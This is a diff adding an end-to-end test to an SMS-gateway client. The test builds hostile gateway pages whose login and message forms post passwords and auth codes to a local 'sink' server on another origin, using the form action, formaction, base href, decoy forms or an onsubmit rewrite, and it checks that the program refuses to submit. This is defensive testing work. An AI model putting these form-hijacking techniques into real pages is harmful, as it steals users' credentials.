@@ -2,6 +2,8 @@
 #include "DatePicker.h"
 #include "GatewayAddress.h"
 #include "Memo.h"
+#include "SendLog.h"
+#include "SendOutcome.h"
 
 #include <QComboBox>
 #include <QElapsedTimer>
@@ -11,9 +13,11 @@
 #include <QPushButton>
 #include <QRadioButton>
 #include <QSignalSpy>
+#include <QTabWidget>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTimer>
+#include <QUrl>
 #include <QWebEngineScript>
 #include <QWebEngineView>
 
@@ -163,6 +167,89 @@ private:
     QStringList m_posts;
 };
 
+// A server on another origin that records every request it receives.
+class ForeignSite
+{
+public:
+    ForeignSite()
+    {
+        m_server.set_logger([this](const httplib::Request& req, const httplib::Response&) {
+            std::lock_guard lock(m_mutex);
+            m_requests << QString::fromStdString(req.method + " " + req.path + " " + req.body);
+        });
+        m_server.Post("/sink", [](const httplib::Request&, httplib::Response& res) {
+            res.set_content("<!doctype html><title>stolen</title>", "text/html; charset=utf-8");
+        });
+        m_port = m_server.bind_to_any_port("127.0.0.1");
+        m_thread = std::thread([this] { m_server.listen_after_bind(); });
+    }
+    ~ForeignSite()
+    {
+        m_server.stop();
+        m_thread.join();
+    }
+    bool isValid() const { return m_port > 0; }
+    QString base() const { return QStringLiteral("http://127.0.0.1:%1").arg(m_port); }
+    QStringList requests() const
+    {
+        std::lock_guard lock(m_mutex);
+        return m_requests;
+    }
+
+private:
+    httplib::Server m_server;
+    std::thread m_thread;
+    mutable std::mutex m_mutex;
+    QStringList m_requests;
+    int m_port = -1;
+};
+
+// The gateway's page with its forms made to go to another site, each in one
+// of the ways the page's HTML can do it.
+enum class Elsewhere
+{
+    Action,        // the forms' action names the other site
+    FormAction,    // the submit buttons' formaction does
+    BaseAddress,   // <base href> makes the relative action point there
+    DecoyBefore,   // a form with the same fields, going there, stands first
+    SubmitHandler, // the page's submit handler changes the action as it submits
+};
+
+QByteArray pageSendingElsewhere(Elsewhere way, const QString& foreign)
+{
+    const QByteArray sink = (foreign + QStringLiteral("/sink")).toUtf8();
+    const QByteArray action = way == Elsewhere::Action ? sink : QByteArray("/sink");
+    const QByteArray formAction =
+        way == Elsewhere::FormAction ? " formaction=\"" + sink + "\"" : QByteArray();
+    const QByteArray onSubmit = way == Elsewhere::SubmitHandler
+                                    ? " onsubmit=\"this.action = '" + sink + "'\""
+                                    : QByteArray();
+    const QByteArray fields =
+        R"(<input id="fuid" name="fuid"><input name="pwd" type="password">)"
+        R"(<input name="auth_code"><input type="submit" id="submit" value="go")" +
+        formAction + "></form>";
+    const QByteArray sendFields =
+        R"(<textarea id="InputMsg" name="InputMsg"></textarea>)"
+        R"(<input name="mobile01"><input name="mobile02"><input name="mobile03">)"
+        R"(<input name="mobile04"><input name="mobile05">)"
+        R"(<input type="radio" name="sendType" value="now">)"
+        R"(<input type="radio" name="sendType" value="later">)"
+        R"(<input name="year"><input name="month"><input name="day"><input name="hour">)"
+        R"(<input name="minute"><button type="submit")" +
+        formAction + ">send</button></form>";
+    QByteArray html = "<!doctype html><html><head><meta charset=\"utf-8\"><title>elsewhere</title>";
+    if (way == Elsewhere::BaseAddress)
+        html += "<base href=\"" + foreign.toUtf8() + "/\">";
+    html += "</head><body>";
+    if (way == Elsewhere::DecoyBefore) {
+        html += "<form hidden method=\"post\" action=\"" + sink + "\">" + fields;
+        html += "<form hidden method=\"post\" action=\"" + sink + "\">" + sendFields;
+    }
+    html += "<form method=\"post\" action=\"" + action + "\"" + onSubmit + ">" + fields;
+    html += "<form method=\"post\" action=\"" + action + "\"" + onSubmit + ">" + sendFields;
+    return html + "</body></html>";
+}
+
 // Measures the longest time the event loop went without turning.
 class StallMeter
 {
@@ -203,6 +290,8 @@ private Q_SLOTS:
     void valuesLandOnlyInTheNamedFields();
     void serverRedirectLoop();
     void scriptRedirectLoop();
+    void formsGoingElsewhereSendNothing_data();
+    void formsGoingElsewhereSendNothing();
 
 private:
     TForm1& form() { return m_window->form(); }
@@ -215,6 +304,7 @@ private:
     QStringList filledFields();
 
     HostileSite m_site;
+    ForeignSite m_foreign;
     std::unique_ptr<QTemporaryDir> m_folder;
     std::unique_ptr<BrowserWindow> m_window;
 };
@@ -222,6 +312,7 @@ private:
 void TestHostilePagesE2E::initTestCase()
 {
     QVERIFY(m_site.isValid());
+    QVERIFY(m_foreign.isValid());
 }
 
 void TestHostilePagesE2E::cleanupTestCase()
@@ -378,6 +469,73 @@ void TestHostilePagesE2E::scriptRedirectLoop()
     loadSmsPage();
     form().BitBtn5->click();
     waitForPosts(1);
+}
+
+void TestHostilePagesE2E::formsGoingElsewhereSendNothing_data()
+{
+    QTest::addColumn<int>("way");
+    QTest::addColumn<QString>("button");
+    // Whether the form the button submits goes elsewhere: a form submitted
+    // without a button (sending, verifying) takes no button's formaction.
+    QTest::addColumn<bool>("refused");
+    const std::pair<const char*, Elsewhere> ways[] = {{"action", Elsewhere::Action},
+                                                      {"formaction", Elsewhere::FormAction},
+                                                      {"base", Elsewhere::BaseAddress},
+                                                      {"decoy", Elsewhere::DecoyBefore},
+                                                      {"submit handler", Elsewhere::SubmitHandler}};
+    for (const auto& [name, way] : ways) {
+        const bool byButtonOnly = way == Elsewhere::FormAction || way == Elsewhere::SubmitHandler;
+        QTest::addRow("%s, 登入", name) << int(way) << "BitBtn5" << true;
+        QTest::addRow("%s, 發送簡訊", name) << int(way) << "BitBtn4" << !byButtonOnly;
+        QTest::addRow("%s, 認證", name) << int(way) << "BitBtn6" << !byButtonOnly;
+        QTest::addRow("%s, 一次完成", name) << int(way) << "BitBtn7" << !byButtonOnly;
+    }
+}
+
+// The gateway's page names another site as its forms' target: the program
+// refuses to submit, names that site, and nothing reaches it; the send log
+// counts nobody as greeted.
+void TestHostilePagesE2E::formsGoingElsewhereSendNothing()
+{
+    QFETCH(int, way);
+    QFETCH(QString, button);
+    QFETCH(bool, refused);
+
+    m_site.setSmsPage(pageSendingElsewhere(Elsewhere(way), m_foreign.base()));
+    loadSmsPage();
+    form().RadioButton1->setChecked(true);
+    form().PageControl1->setCurrentIndex(1);
+    auto* pressed = form().findChild<QPushButton*>(button);
+    QVERIFY(pressed);
+    const QHash<QString, QDate> greetedBefore =
+        greetingRecord(SendLog(m_folder->filePath(SendLog::fileName())), QDate(2000, 1, 1)).greeted;
+    QTest::mouseClick(pressed, Qt::LeftButton);
+
+    // The error box ends the text with a full stop.
+    const QString refusal =
+        QStringLiteral("閘道網頁的表單要送到別的網站（%1），已停止，未送出任何資料.")
+            .arg(QUrl(m_foreign.base()).authority());
+    if (refused) {
+        QTRY_VERIFY_WITH_TIMEOUT(!dialogs().errors().isEmpty(), timeout);
+        QCOMPARE(dialogs().errors().first(), refusal);
+    } else {
+        // The form went to the gateway itself; a chain then stops at the
+        // answer, which has no form to fill.
+        waitForPosts(1);
+    }
+    QTRY_COMPARE_WITH_TIMEOUT(form().ChainStep, QString(), timeout);
+    m_window->settle();
+    QTRY_VERIFY_WITH_TIMEOUT(!m_window->view()->page()->isLoading(), timeout);
+    QVERIFY2(!dialogs().errors().contains(refusal) || refused,
+             qPrintable(dialogs().texts().join(QLatin1Char('|'))));
+    QVERIFY2(m_foreign.requests().isEmpty(),
+             qPrintable(m_foreign.requests().join(QLatin1Char('\n'))));
+    // A refused verification greets nobody.
+    if (refused) {
+        QCOMPARE(greetingRecord(SendLog(m_folder->filePath(SendLog::fileName())), QDate(2000, 1, 1))
+                     .greeted,
+                 greetedBefore);
+    }
 }
 
 QTEST_MAIN(TestHostilePagesE2E)
